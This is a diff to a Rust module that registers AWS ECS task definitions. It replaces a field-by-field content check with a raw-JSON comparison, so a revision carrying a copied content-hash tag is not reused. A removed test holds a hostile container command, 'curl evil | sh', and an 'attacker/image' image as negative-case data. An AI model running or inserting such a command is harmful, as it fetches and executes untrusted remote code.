@@ -3,7 +3,9 @@
 //! The task definition is rendered from `templates/taskdef.json` (embedded at build time)
 //! and registered only when its content changed: the rendered JSON is hashed, and the
 //! latest revision of the family carries that hash in the `jump:content-hash` tag. Running
-//! `jump up` a thousand times therefore creates one revision, not a thousand.
+//! `jump up` a thousand times therefore creates one revision, not a thousand. The tag is
+//! only a hint (anyone who may register the family can copy it): a revision is reused only
+//! when its whole description is what jump would register (`super::reuse`).
 //!
 //! `RunTask` tags the task with its owner, session id and expiry so any machine can find,
 //! list and clean up sessions later; the session's public key and limits travel as
@@ -28,9 +30,10 @@ use crate::template::{self, Gap};
 
 use super::guard::Guard;
 use super::record::{TAG_CONTENT_HASH, TAG_EXPIRES, TAG_OWNER, TAG_OWNER_ID, TAG_SESSION};
+use super::reuse;
 use super::wait::TaskFailed;
 use super::{task_id, SessionId};
-use crate::aws::ApiError;
+use crate::aws::{ApiError, RawBody};
 use crate::plan::{Mode, Plan};
 use crate::retry::{self, Backoff};
 
@@ -65,6 +68,8 @@ pub enum TemplateError {
 pub struct TaskDefinition {
     pub spec: TaskDefinitionSpec,
     pub content_hash: String,
+    /// The definition as RegisterTaskDefinition's JSON: what a reused revision must be.
+    pub rendered: Value,
 }
 
 /// The subset of the ECS task definition the template may use. Unknown fields are
@@ -157,8 +162,9 @@ fn hashed(json: Value) -> Result<TaskDefinition, TemplateError> {
         .map(|b| format!("{b:02x}"))
         .collect();
     Ok(TaskDefinition {
-        spec: serde_json::from_value(json)?,
+        spec: serde_json::from_value(json.clone())?,
         content_hash,
+        rendered: json,
     })
 }
 
@@ -193,38 +199,43 @@ pub fn task_definition(plan: &Plan, region: &str) -> Result<TaskDefinition, Temp
 }
 
 /// Returns the ARN of a task definition revision with this content, registering a new
-/// revision only if the family's latest one has a different content hash.
+/// revision only if the family's latest one is not provably jump's own.
 pub async fn ensure_task_definition(
     ecs: &aws_sdk_ecs::Client,
     def: &TaskDefinition,
 ) -> anyhow::Result<String> {
+    let raw = RawBody::default();
     let latest = ecs
         .describe_task_definition()
         .task_definition(&def.spec.family)
         .include(TaskDefinitionField::Tags)
+        .customize()
+        .interceptor(raw.clone())
         .send()
         .await
         .map_err(|e| ApiError::from_sdk("ecs:DescribeTaskDefinition", e));
     match latest {
         Ok(out) => {
-            let same = out
+            let tagged = out
                 .tags()
                 .iter()
                 .any(|t| t.key() == Some(TAG_CONTENT_HASH) && t.value() == Some(&def.content_hash));
-            if let Some(latest) = out.task_definition().filter(|_| same) {
-                // The tag is only a hint: anyone who may register this family can copy it
-                // onto a revision of their own, so the content itself must match.
-                match latest.task_definition_arn() {
-                    Some(arn) if matches_spec(&def.spec, latest) => {
-                        tracing::debug!(arn, "task definition unchanged");
-                        return Ok(arn.to_string());
-                    }
-                    arn => tracing::warn!(
-                        arn,
-                        "the latest revision carries jump's content tag but not its content; \
-                         registering a fresh one"
-                    ),
+            let arn = out.task_definition().and_then(|d| d.task_definition_arn());
+            if let (true, Some(arn)) = (tagged, arn) {
+                let differences = match raw.json() {
+                    Some(body) => reuse::differences(&body["taskDefinition"], &def.rendered),
+                    None => vec!["DescribeTaskDefinition's answer was not readable".into()],
+                };
+                if differences.is_empty() {
+                    tracing::debug!(arn, "task definition unchanged");
+                    return Ok(arn.to_string());
                 }
+                tracing::warn!(
+                    arn,
+                    ?differences,
+                    "the latest revision carries jump's content tag but is not what jump \
+                     registers; registering a fresh one"
+                );
             }
         }
         // A family that was never registered is reported as a client error.
@@ -232,68 +243,6 @@ pub async fn ensure_task_definition(
         Err(e) => return Err(e.into()),
     }
     register(ecs, def).await
-}
-
-/// Whether a registered revision is exactly what `spec` describes: every field jump sets
-/// (entry point and command included) is equal, and none of the other fields that could
-/// change what runs (environment, secrets, volumes, privileges, namespaces, user) is set.
-fn matches_spec(spec: &TaskDefinitionSpec, found: &aws_sdk_ecs::types::TaskDefinition) -> bool {
-    let task_level = found.cpu() == Some(spec.cpu.as_str())
-        && found.memory() == Some(spec.memory.as_str())
-        && found.network_mode().map(|m| m.as_str()) == Some(spec.network_mode.as_str())
-        && found.task_role_arn() == spec.task_role_arn.as_deref()
-        && found.execution_role_arn() == spec.execution_role_arn.as_deref()
-        && found.volumes().is_empty()
-        && found.pid_mode().is_none()
-        && found.ipc_mode().is_none()
-        && found.proxy_configuration().is_none();
-    task_level
-        && found.container_definitions().len() == spec.container_definitions.len()
-        && found
-            .container_definitions()
-            .iter()
-            .zip(&spec.container_definitions)
-            .all(|(found, spec)| container_matches(spec, found))
-}
-
-fn container_matches(spec: &ContainerSpec, found: &ContainerDefinition) -> bool {
-    let log = found.log_configuration().is_some_and(|l| {
-        l.log_driver().as_str() == spec.log_configuration.log_driver
-            && l.options().is_some_and(|o| {
-                o.len() == spec.log_configuration.options.len()
-                    && spec
-                        .log_configuration
-                        .options
-                        .iter()
-                        .all(|(k, v)| o.get(k) == Some(v))
-            })
-    });
-    let ports = found.port_mappings().len() == spec.port_mappings.len()
-        && found
-            .port_mappings()
-            .iter()
-            .zip(&spec.port_mappings)
-            .all(|(f, s)| {
-                f.container_port() == Some(s.container_port)
-                    && f.protocol().map(|p| p.as_str()) == Some(s.protocol.as_str())
-            });
-    found.name() == Some(spec.name.as_str())
-        && found.image() == Some(spec.image.as_str())
-        && found.essential().unwrap_or(true) == spec.essential
-        && log
-        && ports
-        && found.entry_point() == spec.entry_point
-        && found.command() == spec.command
-        && found.environment().is_empty()
-        && found.environment_files().is_empty()
-        && found.secrets().is_empty()
-        && found.mount_points().is_empty()
-        && found.volumes_from().is_empty()
-        && found.linux_parameters().is_none()
-        && found.privileged() != Some(true)
-        && found.user().is_none()
-        && found.repository_credentials().is_none()
-        && found.docker_labels().is_none_or(|l| l.is_empty())
 }
 
 async fn register(ecs: &aws_sdk_ecs::Client, def: &TaskDefinition) -> anyhow::Result<String> {
@@ -549,21 +498,6 @@ mod tests {
         layers.into_plan().unwrap()
     }
 
-    /// A registered revision with `spec`'s task-level settings and these containers.
-    fn revision(
-        spec: &TaskDefinitionSpec,
-        containers: Vec<ContainerDefinition>,
-    ) -> aws_sdk_ecs::types::TaskDefinition {
-        aws_sdk_ecs::types::TaskDefinition::builder()
-            .cpu(&spec.cpu)
-            .memory(&spec.memory)
-            .network_mode(NetworkMode::from(spec.network_mode.as_str()))
-            .set_task_role_arn(spec.task_role_arn.clone())
-            .set_execution_role_arn(spec.execution_role_arn.clone())
-            .set_container_definitions(Some(containers))
-            .build()
-    }
-
     #[test]
     fn renders_embedded_template() {
         let def = task_definition(&plan(""), "eu-west-1").unwrap();
@@ -623,13 +557,10 @@ mod tests {
             task_definition(&plan("task_role = \"arn:aws:iam::1:role/t\""), "us-east-1").unwrap();
         assert_ne!(exec.content_hash, ssh.content_hash);
 
-        let registered = |spec: &TaskDefinitionSpec| {
-            let container = container_definition(&spec.container_definitions[0]).unwrap();
-            revision(spec, vec![container])
-        };
-        assert!(matches_spec(&exec.spec, &registered(&exec.spec)));
-        assert!(!matches_spec(&exec.spec, &registered(&ssh.spec)));
-        assert!(!matches_spec(&ssh.spec, &registered(&exec.spec)));
+        // Neither mode's revision is reused for the other.
+        assert!(reuse::differences(&exec.rendered, &exec.rendered).is_empty());
+        assert!(!reuse::differences(&ssh.rendered, &exec.rendered).is_empty());
+        assert!(!reuse::differences(&exec.rendered, &ssh.rendered).is_empty());
     }
 
     #[test]
@@ -649,32 +580,6 @@ mod tests {
             log_stream_name("jumphost", "arn:aws:ecs:r:1:task/c/0123abcd"),
             "jump/jumphost/0123abcd"
         );
-    }
-
-    #[test]
-    fn a_revision_matches_only_with_the_same_content() {
-        let plan = plan("task_role = \"arn:aws:iam::1:role/t\"");
-        let def = task_definition(&plan, "eu-west-1").unwrap();
-        let spec = &def.spec;
-        let revision = |containers: Vec<ContainerDefinition>| revision(spec, containers);
-        let ours = container_definition(&spec.container_definitions[0]).unwrap();
-        assert!(matches_spec(spec, &revision(vec![ours.clone()])));
-
-        let mut other_image = spec.container_definitions[0].clone();
-        other_image.image = "attacker/image:1".to_string();
-        let other_image = container_definition(&other_image).unwrap();
-        assert!(!matches_spec(spec, &revision(vec![other_image])));
-
-        let with_command = ContainerDefinition::builder()
-            .name(ours.name().unwrap())
-            .image(ours.image().unwrap())
-            .essential(true)
-            .set_port_mappings(Some(ours.port_mappings().to_vec()))
-            .set_log_configuration(ours.log_configuration().cloned())
-            .command("curl evil | sh")
-            .build();
-        assert!(!matches_spec(spec, &revision(vec![with_command])));
-        assert!(!matches_spec(spec, &revision(vec![ours.clone(), ours])));
     }
 
     #[test]
